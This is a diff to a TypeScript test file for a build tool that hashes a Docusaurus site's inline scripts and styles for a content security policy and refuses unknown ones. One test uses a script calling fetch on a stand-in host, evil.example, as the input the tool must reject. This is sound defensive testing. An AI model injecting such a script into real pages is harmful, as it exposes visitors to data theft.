@@ -1,10 +1,13 @@
 import {createHash} from 'node:crypto';
 import {describe, expect, it} from 'vitest';
-import {InlineScripts, InlineStyles, inlineScripts, inlineStyles, scriptHash, styledTag} from './inlineScripts';
+import {inlineCode, scriptHash, SiteCode} from './inlineScripts';
+
+const inlineScripts = (html: string): string[] => inlineCode(html).scripts;
+const styledTag = (html: string): string | undefined => inlineCode(html).styledTag;
 
 const THEME = "var t=new URLSearchParams(location.search).get('docusaurus-theme')";
 
-describe('inlineScripts', () => {
+describe('inline scripts', () => {
   it('finds what a browser runs', () => {
     expect(
       inlineScripts(
@@ -44,29 +47,30 @@ describe('scriptHash', () => {
   });
 });
 
-describe('InlineScripts', () => {
+describe('SiteCode', () => {
   it('names each script once, whatever the number of pages', () => {
-    const scripts = new InlineScripts();
+    const code = new SiteCode();
     const banner = "'__docusaurus-base-url-issue-banner'";
-    expect(scripts.add(`<script>${THEME}</script>`, 'index.html')).toEqual([scriptHash(THEME)]);
+    expect(code.add(`<script>${THEME}</script>`, 'index.html').scripts).toEqual([scriptHash(THEME)]);
     expect(
-      scripts.add(`<script>${THEME}</script><script>${banner}</script><script>${banner}</script>`, 'docs/index.html'),
+      code.add(`<script>${THEME}</script><script>${banner}</script><script>${banner}</script>`, 'docs/index.html')
+        .scripts,
     ).toEqual([THEME, banner].map(scriptHash).sort());
-    expect(scripts.hashes()).toEqual([THEME, banner].map(scriptHash).sort());
+    expect(code.hashes().scripts).toEqual([THEME, banner].map(scriptHash).sort());
   });
 
   it('refuses a script that it does not know, and names the page', () => {
-    const scripts = new InlineScripts();
-    scripts.add(`<script>${THEME}</script>`, 'index.html');
-    expect(() => scripts.add('<script>fetch("https://evil.example")</script>', 'docs/index.html')).toThrow(
+    const code = new SiteCode();
+    code.add(`<script>${THEME}</script>`, 'index.html');
+    expect(() => code.add('<script>fetch("https://evil.example")</script>', 'docs/index.html')).toThrow(
       /docs\/index\.html has an inline script that tools\/delivery\/inlineScripts\.ts does not know: fetch/,
     );
   });
 
   it('refuses two forms of a known script', () => {
-    const scripts = new InlineScripts();
-    scripts.add(`<script>${THEME}</script>`, 'index.html');
-    expect(() => scripts.add(`<script>${THEME};more()</script>`, 'docs/index.html')).toThrow(
+    const code = new SiteCode();
+    code.add(`<script>${THEME}</script>`, 'index.html');
+    expect(() => code.add(`<script>${THEME};more()</script>`, 'docs/index.html')).toThrow(
       /docs\/index\.html has an inline script that is not that of index\.html/,
     );
   });
@@ -75,9 +79,9 @@ describe('InlineScripts', () => {
 describe('styles', () => {
   it('are found in pages and drawings, and not in text', () => {
     expect(
-      inlineStyles(
+      inlineCode(
         '<style>a{}</style><svg><STYLE data-href="/x.css">b{}</STYLE></svg><!-- <style>c{}</style> --><script>"<style>d{}</style>"</script>',
-      ),
+      ).styles,
     ).toEqual(['a{}', 'b{}']);
   });
 
@@ -95,9 +99,9 @@ describe('styles', () => {
   });
 
   it('are refused where there are more than a policy has room for', () => {
-    const styles = new InlineStyles();
-    for (let index = 0; index < 8; index += 1) styles.add(`<style>a${index}{}</style><style>a0{}</style>`, 'a.html');
-    expect(styles.hashes()).toHaveLength(8);
-    expect(() => styles.add('<style>one more{}</style>', 'b.html')).toThrow(/b\.html has more inline styles/);
+    const code = new SiteCode();
+    for (let index = 0; index < 8; index += 1) code.add(`<style>a${index}{}</style><style>a0{}</style>`, 'a.html');
+    expect(code.hashes().styles).toHaveLength(8);
+    expect(() => code.add('<style>one more{}</style>', 'b.html')).toThrow(/b\.html has more inline styles/);
   });
 });
